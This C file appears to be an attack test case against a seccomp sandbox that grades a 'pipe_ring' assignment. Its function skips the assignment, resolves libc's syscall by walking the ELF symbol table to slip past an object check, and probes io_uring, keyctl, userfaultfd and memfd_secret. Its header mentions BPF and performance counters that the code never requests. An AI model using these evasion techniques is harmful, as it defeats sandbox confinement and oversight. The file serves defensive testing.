/* ATTACK 52: asks for io_uring, keyrings, performance counters and BPF, as far as the kernel gives them.
 * assignment: pipe_ring
 * gains: much more of the kernel to attack, past the object check
 * expect: score<=5
 * max-score: 10
 * layers: seccomp
 * off: output 42425277
 */
#include "pipe_ring.h"

#include <stdbool.h>
#include <stdio.h>
#include <string.h>

/* A dlsym of its own: the C library lies round its texts, and tells in its dynamic section where its symbols are. */
static void *library(const char *name)
{
	const char *base = (const char *)((uintptr_t)strerrordesc_np(0) & ~(uintptr_t)4095), *names = NULL, *symbol = NULL;
	const uint64_t *part, *entry = NULL;
	while (memcmp(base, "\177ELF", 4) != 0)
		base -= 4096;
	for (part = (const uint64_t *)(base + 64); !entry; part += 7)
		if ((uint32_t)part[0] == 2) /* PT_DYNAMIC */
			entry = (const uint64_t *)(base + part[2]);
	for (; entry[0]; entry += 2)
		if (entry[0] == 5) /* DT_STRTAB */
			names = (const char *)entry[1];
		else if (entry[0] == 6) /* DT_SYMTAB */
			symbol = (const char *)entry[1];
	for (symbol += 24; symbol < names; symbol += 24)
		if (*(const uint64_t *)(symbol + 8) && strcmp(names + *(const uint32_t *)symbol, name) == 0)
			return (void *)(base + *(const uint64_t *)(symbol + 8));
	return NULL;
}

int ring_run(unsigned nodes, unsigned laps, uint64_t *token, ring_step step, void *ctx)
{
	(void)nodes;
	(void)laps;
	(void)step;
	(void)ctx;
	long (*call)(long, ...) = (long (*)(long, ...))library("syscall");
	char parameters[256] = {0};
	bool any = call(425, 4, parameters) >= 0 /* io_uring_setup */ || call(250, 0, -3, 1) >= 0 /* keyctl */ ||
	           call(323, 0) >= 0 /* userfaultfd */ || call(447, 0) >= 0 /* memfd_secret */;
	/* Success shows as the token that the test then sees. */
	if (token)
		*token = any ? 42425276 + 1 : 1;
	return 0;
}
